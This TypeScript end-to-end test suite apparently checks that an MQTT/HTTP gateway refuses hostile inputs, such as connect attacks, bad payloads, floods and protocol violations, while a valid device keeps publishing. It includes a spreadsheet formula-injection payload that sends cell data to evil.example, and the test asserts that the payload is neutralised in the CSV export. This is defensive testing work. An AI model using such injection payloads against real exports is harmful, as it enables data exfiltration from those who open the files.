/**
 * E2E: the standing hostile-input suite (issue 8 point 8). The corpus — connect-level attacks, publish
 * payloads and protocol violations from an authenticated device, hostile HTTP requests — runs against
 * the real gateway while a valid shelf scale publishes beside it the whole time. Each input must get its
 * refusal and its trace (counter, error reply, dead-letter row — or, for what is not a device, a counter
 * and no row); at the end the valid device must have lost nothing: every reading it was acknowledged
 * arrived on the bus exactly once, in order, on a connection that never dropped, and nothing of it was
 * refused. New refusal reasons join the corpus files as they are added.
 */
import type { MqttClient } from 'mqtt';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { connectPacket } from '../broker/helpers/mqtt-bytes.js';
import { metricValue, waitFor } from '../helpers/gateway.js';
import { connectAttacks } from './connect-corpus.js';
import { httpInputs } from './http-corpus.js';
import { closingInputs, publishInputs } from './publish-corpus.js';
import { closed, type DeadLetter, grownBy, MALLORY, MALLORY_ADDRESS, type Rig, startRig, VALID } from './rig.js';

let rig: Rig;
let mallory: MqttClient;
const replies: { topic: string; reason: string; detail: string; repeats: number }[] = [];

const total = (traces: { repeats: number }[]) => traces.reduce((sum, trace) => sum + trace.repeats, 0);
const malloryRows = async (reason: string) =>
  (await rig.deadLetters(`&device=${MALLORY}&reason=${reason}`)).filter((row: DeadLetter) => row.reason === reason);

async function connectMallory(): Promise<MqttClient> {
  const { client } = await rig.connectFrom(MALLORY_ADDRESS, {
    clientId: MALLORY,
    username: MALLORY,
    password: rig.malloryPassword,
  });
  if (client === undefined) throw new Error('mallory could not connect');
  client.on('message', (_topic, payload) => replies.push(JSON.parse(payload.toString())));
  await client.subscribeAsync(`omo/shelf/${MALLORY}/error`, { qos: 1 });
  return client;
}

beforeAll(async () => {
  rig = await startRig();
  mallory = await connectMallory();
  // One accepted reading: the watermark the `late` input falls behind.
  await mallory.publishAsync(`omo/shelf/${MALLORY}/temp`, `{"ts":${Date.now()},"celsius":4}`, { qos: 1 });
  await waitFor(() => rig.arrived.length > 0, 10_000, 'the valid device to be flowing');
}, 60_000);

afterAll(async () => rig?.stop());

describe('E2E hostile: connect-level attacks, each refused and counted, never a dead letter', () => {
  it.each(connectAttacks)('$name', async (attack) => {
    const before = await rig.scrape();
    const rows = (await rig.deadLetters()).length;
    expect(await attack.run(rig)).toBe(attack.outcome);
    const [name, labels, count = 1] = attack.metric;
    expect(await grownBy(rig, before, name, labels, count)).toBe(count);
    expect((await rig.deadLetters()).length).toBe(rows);
  });
});

describe('E2E hostile: payloads from an authenticated device, each refused with its three traces', () => {
  it.each(publishInputs)('$name → $reason', async (input) => {
    const before = await rig.scrape();
    const answered = total(replies.filter((reply) => reply.reason === input.reason));
    const written = total(await malloryRows(input.reason));
    await mallory.publishAsync(input.topic, input.payload(Date.now()), { qos: 1 });

    expect(await grownBy(rig, before, 'omo_ingest_refused_total', { reason: input.reason }, 1)).toBe(1);
    // Answered and dead-lettered at once, or counted into the repeats of its trace window.
    await waitFor(
      () => total(replies.filter((reply) => reply.reason === input.reason)) === answered + 1,
      10_000,
      'the error reply',
    );
    await waitFor(async () => total(await malloryRows(input.reason)) === written + 1, 10_000, 'the dead letter');
    const reply = replies.findLast((r) => r.reason === input.reason);
    expect(reply?.detail).toMatch(input.detail);
    expect(mallory.connected).toBe(true);
  });

  it('bounds a flood: 3,000 over-rate publishes are counted exactly in a handful of rows', async () => {
    const before = await rig.scrape();
    const rowsBefore = await malloryRows('rate_limited');
    const started = Date.now();
    for (let i = 0; i < 3000; i++) mallory.publish(`omo/shelf/${MALLORY}/temp`, 'x', { qos: 0 });
    await mallory.publishAsync(`omo/shelf/${MALLORY}/temp`, 'x', { qos: 1 }); // in order: after the flood
    const after = await rig.scrape();
    const limited = metricValue(after, 'omo_broker_refused_total', { reason: 'rate_limited' });
    const badJson = metricValue(after, 'omo_ingest_refused_total', { reason: 'bad_json' });
    const refused = limited - metricValue(before, 'omo_broker_refused_total', { reason: 'rate_limited' });
    const parsed = badJson - metricValue(before, 'omo_ingest_refused_total', { reason: 'bad_json' });
    // Every one of the 3,001 is refused: past the rate, or within it as the bad JSON it is.
    expect(refused + parsed).toBe(3001);
    expect(refused).toBeGreaterThan(0);
    await waitFor(
      async () => total(await malloryRows('rate_limited')) - total(rowsBefore) === refused,
      10_000,
      'the rate-limited rows to add up',
    );
    const rows = (await malloryRows('rate_limited')).length - rowsBefore.length;
    // At most one row per trace interval the flood lasted, plus the one traced at once.
    const intervals = Math.ceil((Date.now() - started) / 200) + 1;
    expect(rows).toBeLessThanOrEqual(intervals);
  });
});

describe('E2E hostile: protocol violations close the connection [MQTT 3.1.1], counted', () => {
  it.each(closingInputs)('$name', async (input) => {
    const before = await rig.scrape();
    const rowsBefore = input.row === undefined ? [] : await malloryRows(input.row);
    const socket = await rig.socketFrom(MALLORY_ADDRESS);
    socket.write(
      connectPacket({ clientId: `${MALLORY}:raw`, clean: true, username: MALLORY, password: rig.malloryPassword }),
    );
    await new Promise((resolve) => socket.once('data', resolve)); // CONNACK
    socket.write(input.bytes);
    await closed(socket);
    const [name, labels] = input.metric;
    expect(await grownBy(rig, before, name, labels, 1)).toBe(1);
    if (input.row !== undefined) {
      const row = input.row;
      await waitFor(async () => total(await malloryRows(row)) === total(rowsBefore) + 1, 10_000, 'the dead letter');
    }
  });
});

describe('E2E hostile: HTTP requests, each refused with the error envelope', () => {
  it.each(httpInputs)('$name → $status', async (input) => {
    const token =
      input.token === 'admin'
        ? rig.gw.adminToken
        : input.token === 'hq'
          ? await hqToken()
          : input.token === 'bad'
            ? 'omo_x_0000'
            : undefined;
    const headers: Record<string, string> = { ...input.headers };
    if (token !== undefined) headers.authorization = `Bearer ${token}`;
    const response = await fetch(`http://127.0.0.1:${rig.gw.ports.http}${input.path}`, {
      method: input.method ?? 'GET',
      headers,
      ...(input.body === undefined ? {} : { body: input.body }),
    });
    expect(response.status).toBe(input.status);
    if (input.status < 400) return;
    const { error } = (await response.json()) as { error: { code: string; message: string } };
    expect(typeof error.message).toBe('string');
    if (input.code !== undefined) expect(error.code).toBe(input.code);
  });

  it('serves the dead letters as CSV with the formula topic neutralised', async () => {
    const response = await rig.gw.http('/api/v1/dead-letters?format=csv&reason=acl', { token: rig.gw.adminToken });
    const text = await response.text();
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""open"")"`);
    expect(text).not.toMatch(/(^|,)"?=HYPERLINK/m);
  });
});

let hq: string | undefined;
async function hqToken(): Promise<string> {
  if (hq !== undefined) return hq;
  const response = await fetch(`http://127.0.0.1:${rig.gw.ports.http}/api/v1/tokens`, {
    method: 'POST',
    headers: { authorization: `Bearer ${rig.gw.adminToken}`, 'content-type': 'application/json' },
    body: JSON.stringify({ name: 'hostile-hq', scopes: ['hq:read'] }),
  });
  hq = ((await response.json()) as { token: string }).token;
  return hq;
}

describe('E2E hostile: the valid device beside it all', () => {
  it('lost nothing: every acknowledged reading arrived once, in order, on a connection that never dropped', async () => {
    await rig.valid.stop();
    await waitFor(() => rig.arrived.length >= rig.valid.acked.length, 10_000, 'the last readings');
    expect(rig.valid.acked.length).toBeGreaterThan(100);
    expect(rig.arrived).toEqual(rig.valid.acked);
    expect(rig.valid.closes).toBe(0);
    expect(await rig.deadLetters(`&device=${VALID}`)).toEqual([]);
    const health = await rig.gw.http('/healthz');
    expect(health.status).toBe(200);
  });
});
